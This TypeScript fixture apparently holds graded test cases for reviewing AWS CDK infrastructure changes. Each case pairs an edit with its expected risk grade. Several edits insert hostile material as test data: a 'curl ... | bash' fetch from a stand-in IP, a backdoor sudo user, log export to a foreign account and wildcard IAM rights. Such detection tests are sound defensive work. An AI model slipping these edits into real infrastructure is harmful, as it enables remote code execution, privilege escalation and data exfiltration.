/** The changes that review once passed over or graded wrong. */
import { after, edit, type Graded } from '../graded';

const prod = 'config/prod.ts';
const allowlist = 'config/allowlists/prod.txt';
const fleet = 'lib/machine/fleet.ts';
const network = 'lib/network/network-stack.ts';
const lastFlow =
  '10.22.2.16/28   10.32.4.40/32    8443   settlement       NET-3205   2027-03-31   # settlement notifies payment';
const fetched = "'curl -s http://198.51.100.7/x | bash',";
const commands = "startUnits(...(props.extra?.unitsBefore ?? []), 'collector', 'drain', 'certificate'),";

export const given: readonly Graded[] = [
  {
    name: 'an incident without an alarm action',
    edits: [edit('lib/observe/alarms/index.ts', '    alarm.addAlarmAction(page);\n', '')],
    grade: 'danger',
    finds: { 'nobody-paged': 'no incident pages anybody' },
  },
  {
    name: 'a line of the allow-list',
    edits: [
      after(
        allowlist,
        lastFlow,
        '10.32.4.16/28   10.22.1.30/32    3306   payments         NET-3206   2027-03-31   # MySQL',
      ),
    ],
    grade: 'caution',
    finds: { 'flow-added': '10.32.4.16/28 → 10.22.1.30/32 at TCP 3306 (MySQL); owner payments' },
  },
  {
    name: 'a line of the allow-list for SSH',
    edits: [
      after(
        allowlist,
        lastFlow,
        '10.32.4.0/28    10.22.1.20/32    22     payments         NET-3207   2027-03-31   # ssh',
      ),
    ],
    grade: 'danger',
    finds: { 'flow-of-control': 'TCP 22 (SSH)' },
  },
  {
    name: 'zones in another order',
    edits: [
      after(prod, "    cidr: '10.12.0.0/16',", "    availabilityZones: ['ap-east-1b', 'ap-east-1a', 'ap-east-1c'],"),
    ],
    grade: 'danger',
    finds: { 'stateful-replaced': 'AWS::EC2::Subnet' },
  },
  {
    name: 'a managed policy of the account',
    edits: [
      edit(
        'lib/common/iam.ts',
        'const role = new Role(scope, id, { assumedBy, description });',
        "const role = new Role(scope, id, { assumedBy, description, managedPolicies: id === 'GatewayRole' ? [ManagedPolicy.fromManagedPolicyArn(scope, 'Ops', 'arn:aws:iam::333333333333:policy/ops-admin')] : [] });",
      ),
    ],
    grade: 'danger',
    finds: { 'iam-managed-policy': 'ops-admin' },
  },
  {
    name: 'smaller volumes of the store',
    edits: [edit(prod, 'volumeGiB: 1_000', 'volumeGiB: 700')],
    grade: 'caution',
    finds: { 'open-search-shrinks': 'volume size: 1000 → 700' },
    silent: ['alarm-laxer'],
  },
  {
    name: 'an endpoint without a policy',
    edits: [
      edit(
        network,
        "const s3 = this.vpc.addGatewayEndpoint('S3', {\n      service: GatewayVpcEndpointAwsService.S3,\n      subnets: [subnets.collect, subnets.link],\n    });",
        "this.vpc.addGatewayEndpoint('S3', {\n      service: GatewayVpcEndpointAwsService.S3,\n      subnets: [subnets.collect, subnets.link],\n    });\n    const s3 = { addToPolicy: (_: PolicyStatement) => {} };",
      ),
    ],
    grade: 'danger',
    finds: { 'iam-sweeping': '* on *' },
  },
  {
    name: 'readers see all, the writer may do all',
    edits: [
      edit('lib/store/documents/access.ts', "      ['indices:data/write/bulk'],", "      ['*'],"),
      edit('lib/store/documents/access.ts', 'masked_fields: maskedFields, fls: hiddenFields }', 'masked_fields: [] }'),
    ],
    grade: 'danger',
    finds: { 'store-unmasked': 'no longer', 'store-rights-sweeping': '* on the cluster' },
  },
  {
    name: 'shorter flow logs',
    edits: [
      edit(
        network,
        "const logGroup = new LogGroup(this, 'FlowLogs', {\n      encryptionKey: this.logsKey,\n      retention: this.config.observe.logRetentionDays,",
        "const logGroup = new LogGroup(this, 'FlowLogs', {\n      encryptionKey: this.logsKey,\n      retention: 90,",
      ),
    ],
    grade: 'danger',
    finds: { 'retention-shortens': 'RetentionInDays: 400 → 90 days' },
  },
  {
    name: 'an endpoint of strangers',
    edits: [
      edit(
        network,
        '  GatewayVpcEndpointAwsService,\n',
        '  GatewayVpcEndpointAwsService,\n  InterfaceVpcEndpointService,\n',
      ),
      after(
        network,
        "    securityGroup.addIngressRule(Peer.ipv4(this.config.network.cidr), Port.tcp(443), 'AWS APIs from the VPC');",
        "    this.vpc.addInterfaceEndpoint('Saas', { service: new InterfaceVpcEndpointService('com.amazonaws.vpce.ap-east-1.vpce-svc-0123456789abcdef0', 443), subnets: subnets.collect, securityGroups: [securityGroup], open: false });",
      ),
    ],
    grade: 'danger',
    finds: { 'endpoint-of-strangers': 'vpce-svc-0123456789abcdef0' },
  },
  {
    name: 'packages in another order, and one line more among the commands',
    edits: [edit(fleet, "packages: ['jq', 'unzip',", "packages: ['unzip', 'jq',"), after(fleet, commands, fetched)],
    grade: 'danger',
    finds: { 'runs-as-root': 'curl -s http://198.51.100.7/x | bash' },
  },
  {
    name: 'one line more among the commands',
    edits: [after(fleet, commands, fetched)],
    grade: 'danger',
    finds: { 'runs-as-root': 'curl -s http://198.51.100.7/x | bash' },
  },
  {
    name: 'more hops to the credentials of instances',
    edits: [edit(fleet, 'httpPutResponseHopLimit: 1,', 'httpPutResponseHopLimit: 3,')],
    grade: 'caution',
    finds: { 'machine-guard': 'HttpPutResponseHopLimit: 1 → 3' },
  },
  {
    name: 'another description of keys',
    edits: [
      edit(
        'lib/common/encryption-key.ts',
        'description: `Harbourline: ${purpose}`',
        'description: `Harbourline key: ${purpose}`',
      ),
    ],
    grade: 'nothing',
  },
  {
    name: 'instances that live for 90 days',
    edits: [edit(fleet, 'maxInstanceLifetime: Duration.days(lifetimeDays)', 'maxInstanceLifetime: Duration.days(90)')],
    grade: 'caution',
    finds: { 'lives-longer': 'MaxInstanceLifetime: 1209600 → 7776000' },
  },
  {
    name: 'logs are kept longer',
    edits: [edit(prod, 'logRetentionDays: 400', 'logRetentionDays: 545')],
    grade: 'note',
    finds: { 'logs-kept-longer': '400 → 545 days' },
  },
  {
    name: 'another master of the store',
    edits: [edit('lib/store/store-stack.ts', 'master: bootstrapRole,', 'master: this.writerRole,')],
    grade: 'danger',
    finds: { 'store-master': 'MasterUserARN' },
  },
  {
    name: 'another address is paged',
    edits: [edit(prod, 'platform-on-call@example.com', 'somebody@gmail.example')],
    grade: 'caution',
    finds: { 'pager-changes': 'somebody@gmail.example' },
  },
  {
    name: 'keys of persons are let through, and the pseudonym is gone',
    edits: [
      edit(
        prod,
        "redaction: { allowedKeys: ['payment'], pseudonymKeys: ['enduser.id'] }",
        "redaction: { allowedKeys: ['payment', 'enduser', 'customer', 'user'] }",
      ),
    ],
    grade: 'danger',
    finds: { 'redaction-weakens': 'now let through: enduser, customer, user' },
  },
  {
    name: 'the store under another logical id',
    edits: [edit('lib/store/domain.ts', "new Domain(this, 'Domain', {", "new Domain(this, 'TraceStore', {")],
    grade: 'danger',
    finds: { 'stateful-removed': 'AWS::OpenSearchService::Domain' },
  },
  {
    name: 'certificates are no longer renewed',
    edits: [
      after(
        'lib/machine/certificates.ts',
        '      schedule: Schedule.rate(Duration.days(renewalDays)),',
        '      enabled: false,',
      ),
    ],
    grade: 'danger',
    finds: { 'schedule-off': 'DISABLED' },
  },
  {
    name: 'a lower ceiling, a slower threshold',
    edits: [after(prod, '  sampling: {', '    ceilingPercent: 20,\n    slowThresholdMs: 10_000,')],
    grade: 'caution',
    finds: { 'sampling-changes': '10000' },
  },
  {
    name: 'commands on every service node',
    edits: [
      after(
        'lib/collect/agent.ts',
        '      `mkdir -p ${scripts}`,',
        `      ${fetched}\n      'useradd -m support && echo "support ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/support',`,
      ),
    ],
    grade: 'danger',
    finds: { 'runs-as-root': 'useradd -m support' },
  },
  {
    name: 'logs are sent to another account',
    edits: [
      edit(
        'lib/collect/collect-stack.ts',
        "import { LogGroup } from 'aws-cdk-lib/aws-logs';",
        "import { CfnSubscriptionFilter, LogGroup } from 'aws-cdk-lib/aws-logs';",
      ),
      edit(
        'lib/collect/collect-stack.ts',
        "    const gatewayRole = serviceRole(this, 'GatewayRole', {",
        "    new CfnSubscriptionFilter(this, 'Out', { logGroupName: logGroup.logGroupName, filterPattern: '', destinationArn: 'arn:aws:logs:ap-east-1:999999999999:destination:out' });\n    const gatewayRole = serviceRole(this, 'GatewayRole', {",
      ),
    ],
    grade: 'danger',
    finds: { 'way-out': 'AWS::Logs::SubscriptionFilter', 'foreign-account': '999999999999' },
  },
  {
    name: 'a tag',
    edits: [
      after(
        'lib/tracing-stage.ts',
        '    observe.exportForLink();',
        "    require('aws-cdk-lib').Tags.of(this).add('cost-centre', 'cc-4711');",
      ),
    ],
    grade: 'note',
    finds: { tags: 'cost-centre' },
  },
  {
    name: 'other addresses inside the tunnels',
    edits: [edit(prod, '169.254.31.0/30', '169.254.34.0/30')],
    grade: 'danger',
    finds: { 'vpn-tunnel': 'AWS::EC2::VPNConnection' },
  },
];
